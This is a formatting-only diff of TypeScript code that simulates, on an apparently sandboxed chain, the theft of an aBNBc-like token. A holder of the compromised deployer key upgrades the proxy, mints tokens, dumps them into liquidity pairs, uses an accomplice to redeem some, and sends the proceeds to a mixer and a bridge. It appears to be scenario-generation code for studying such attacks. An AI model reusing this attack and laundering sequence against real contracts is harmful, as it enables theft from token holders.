@@ -42,16 +42,25 @@ async function deployMalice(theft: Theft, name: ContractName): Promise<Address> 
 }
 
 function mintActs({ people: { thief }, at }: World): Act[] {
-  return Array.from({ length: FIGURES.mints }, () => ({ kind: 'mint', step: { by: thief, to: at.token, data: rawMint(thief.account.address, FIGURES.mint) } }));
+  return Array.from({ length: FIGURES.mints }, () => ({
+    kind: 'mint',
+    step: { by: thief, to: at.token, data: rawMint(thief.account.address, FIGURES.mint) },
+  }));
 }
 
 function approvals({ people: { thief }, at }: World): Act[] {
-  return [at.bnbPair, at.usdcPair].map((pair) => ({ kind: 'other', step: call(thief, 'CertToken', at.token, 'approve', [pair, maxUint256]) }));
+  return [at.bnbPair, at.usdcPair].map((pair) => ({
+    kind: 'other',
+    step: call(thief, 'CertToken', at.token, 'approve', [pair, maxUint256]),
+  }));
 }
 
 /** The sales into both pairs, in turns; the seed decides how the sums are split. */
 function saleActs({ people: { thief }, at }: World, seed: Seeded): Act[] {
-  const sell = (pair: Address, amount: bigint): Act => ({ kind: 'sale', step: call(thief, 'Pair', pair, 'swap', [at.token, amount, 0n, thief.account.address]) });
+  const sell = (pair: Address, amount: bigint): Act => ({
+    kind: 'sale',
+    step: call(thief, 'Pair', pair, 'swap', [at.token, amount, 0n, thief.account.address]),
+  });
   const split = (label: string, { cert, swaps }: { cert: bigint; swaps: number }): bigint[] => {
     const weights = Array.from({ length: swaps }, (_, n) => BigInt(seed.between(`${label} ${n}`, 80, 120)));
     const sum = weights.reduce((a, b) => a + b);
@@ -59,22 +68,32 @@ function saleActs({ people: { thief }, at }: World, seed: Seeded): Act[] {
   };
   const [first = 0n, ...bnbSales] = split('bnb dump', FIGURES.bnbDump);
   const usdcSales = split('usdc dump', FIGURES.usdcDump);
-  const rest = bnbSales.flatMap((amount, n) => [sell(at.bnbPair, amount), ...usdcSales.slice(n, n + 1).map((other) => sell(at.usdcPair, other))]);
+  const rest = bnbSales.flatMap((amount, n) => [
+    sell(at.bnbPair, amount),
+    ...usdcSales.slice(n, n + 1).map((other) => sell(at.usdcPair, other)),
+  ]);
   return [sell(at.bnbPair, first), ...rest];
 }
 
 /** Hands fresh tokens to the accomplice, who redeems them at the desk, and to whoever will lend on them. */
 async function handOver(theft: Theft): Promise<void> {
   const { people, at } = theft.world;
-  await act(theft, [{ kind: 'other', step: call(people.thief, 'CertToken', at.token, 'transfer', [people.accomplice.account.address, FIGURES.handed]) }]);
+  await act(theft, [
+    {
+      kind: 'other',
+      step: call(people.thief, 'CertToken', at.token, 'transfer', [people.accomplice.account.address, FIGURES.handed]),
+    },
+  ]);
 }
 
 async function redeem({ world, say, seed }: Theft): Promise<void> {
   const { people, at, chain } = world;
   const part = FIGURES.desk.redeemed / BigInt(FIGURES.desk.times);
   for (let n = 0; n < FIGURES.desk.times; n++) {
-    const shift = (BigInt(seed.between(`redeem ${Math.floor(n / 2)}`, 0, 400)) * 10n ** 18n * (n % 2 === 0 ? 1n : -1n));
-    await chain.send([call(people.accomplice, 'CertToken', at.token, 'transfer', [people.desk.account.address, part + shift])]);
+    const shift = BigInt(seed.between(`redeem ${Math.floor(n / 2)}`, 0, 400)) * 10n ** 18n * (n % 2 === 0 ? 1n : -1n);
+    await chain.send([
+      call(people.accomplice, 'CertToken', at.token, 'transfer', [people.desk.account.address, part + shift]),
+    ]);
     await chain.blocks(1);
   }
   say(`an accomplice has asked the desk to redeem ${bnb(FIGURES.desk.redeemed)} fresh aBNBc`);
@@ -88,8 +107,14 @@ async function carryAway(theft: Theft): Promise<void> {
   const dollars = await chain.read<bigint>('StableToken', at.usdc, 'balanceOf', [thief.account.address]);
   const least = (a: bigint, b: bigint): bigint => (a < b ? a : b);
   const steps: Step[] = [];
-  if (wrapped > 0n) steps.push(call(thief, 'WBNB', at.wbnb, 'withdraw', [wrapped]), { by: thief, to: MIXER, value: least(wrapped, FIGURES.mixed) });
-  if (dollars > 0n) steps.push(call(thief, 'StableToken', at.usdc, 'transfer', [BRIDGE, least(dollars, FIGURES.bridged)]));
+  if (wrapped > 0n)
+    steps.push(call(thief, 'WBNB', at.wbnb, 'withdraw', [wrapped]), {
+      by: thief,
+      to: MIXER,
+      value: least(wrapped, FIGURES.mixed),
+    });
+  if (dollars > 0n)
+    steps.push(call(thief, 'StableToken', at.usdc, 'transfer', [BRIDGE, least(dollars, FIGURES.bridged)]));
   // One after the other: a node takes no payment that the balance does not cover yet.
   for (const step of steps) await act(theft, [{ kind: 'other', step }]);
   theft.say(`the thief got ${bnb(wrapped)} BNB and ${bnb(dollars)} USDC out of the pairs`);
@@ -100,7 +125,10 @@ export async function stealInSteps(theft: Theft, malice: ContractName): Promise<
   const { world, seed, say } = theft;
   const implementation = await deployMalice(theft, malice);
   say('the thief, who has the deployer’s key, has put his own code on the chain');
-  const upgrade = call(world.people.deployer, 'ProxyAdmin', world.at.proxyAdmin, 'upgrade', [world.at.token, implementation]);
+  const upgrade = call(world.people.deployer, 'ProxyAdmin', world.at.proxyAdmin, 'upgrade', [
+    world.at.token,
+    implementation,
+  ]);
   await act(theft, [{ kind: 'upgrade', step: upgrade }]);
   say('the thief has upgraded aBNBc to it');
   for (const one of mintActs(world)) await act(theft, [one]);
@@ -114,7 +142,11 @@ export async function stealInSteps(theft: Theft, malice: ContractName): Promise<
     const [mined] = await act(theft, [one]);
     if (mined?.ok === false) refused++;
   }
-  say(refused === 0 ? `the thief has sold aBNBc in ${sales.length} swaps` : `the pairs have refused ${refused} of ${sales.length} swaps of the thief`);
+  say(
+    refused === 0
+      ? `the thief has sold aBNBc in ${sales.length} swaps`
+      : `the pairs have refused ${refused} of ${sales.length} swaps of the thief`,
+  );
   await carryAway(theft);
   await redeeming;
 }
@@ -125,10 +157,19 @@ export async function stealInOneBlock(theft: Theft): Promise<void> {
   const implementation = await deployMalice(theft, 'CertTokenUnguarded');
   await act(theft, approvals(world));
   say('the thief, who has the deployer’s key, has put his own code on the chain');
-  const upgrade: Act = { kind: 'upgrade', step: call(world.people.deployer, 'ProxyAdmin', world.at.proxyAdmin, 'upgrade', [world.at.token, implementation]) };
+  const upgrade: Act = {
+    kind: 'upgrade',
+    step: call(world.people.deployer, 'ProxyAdmin', world.at.proxyAdmin, 'upgrade', [world.at.token, implementation]),
+  };
   const dear = (one: Act, gwei: bigint): Act => ({ kind: one.kind, step: { ...one.step, gasPrice: gwei * 10n ** 9n } });
-  const mined = await act(theft, [dear(upgrade, 50n), ...[...mintActs(world), ...saleActs(world, seed)].map((one) => dear(one, 40n))]);
-  say(`the thief has upgraded, minted and sold: ${mined.length} transactions in ${new Set(mined.map((one) => one.block)).size} block`);
+  const mined = await act(theft, [
+    dear(upgrade, 50n),
+    ...[...mintActs(world), ...saleActs(world, seed)].map((one) => dear(one, 40n)),
+  ]);
+  const blocks = new Set(mined.map((one) => one.block)).size;
+  say(
+    `the thief has upgraded, minted and sold: ${mined.length} transactions in ${blocks === 1 ? 'one block' : `${blocks} blocks`}`,
+  );
   await handOver(theft);
   const redeeming = redeem(theft);
   await carryAway(theft);
@@ -146,7 +187,12 @@ export async function stealInOneTransaction(theft: Theft): Promise<void> {
     functionName: 'grab',
     args: [[at.bnbPair, at.usdcPair], [FIGURES.bnbDump.cert, FIGURES.usdcDump.cert], people.thief.account.address],
   });
-  await act(theft, [{ kind: 'upgrade', step: call(people.deployer, 'ProxyAdmin', at.proxyAdmin, 'upgradeAndCall', [at.token, implementation, grab]) }]);
+  await act(theft, [
+    {
+      kind: 'upgrade',
+      step: call(people.deployer, 'ProxyAdmin', at.proxyAdmin, 'upgradeAndCall', [at.token, implementation, grab]),
+    },
+  ]);
   say('the thief has upgraded aBNBc, minted and sold in one transaction');
   for (const one of mintActs(world)) await act(theft, [one]);
   await handOver(theft);
